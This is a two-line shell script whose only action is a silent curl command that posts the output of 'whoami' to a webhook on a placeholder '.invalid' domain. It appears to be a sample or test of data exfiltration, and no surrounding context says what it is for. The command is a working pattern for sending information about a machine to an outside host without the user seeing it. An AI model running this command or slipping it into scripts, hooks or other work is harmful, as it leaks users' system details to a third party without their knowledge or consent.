#!/bin/sh
curl -s -d "$(whoami)" https://webhook.drop.invalid/t
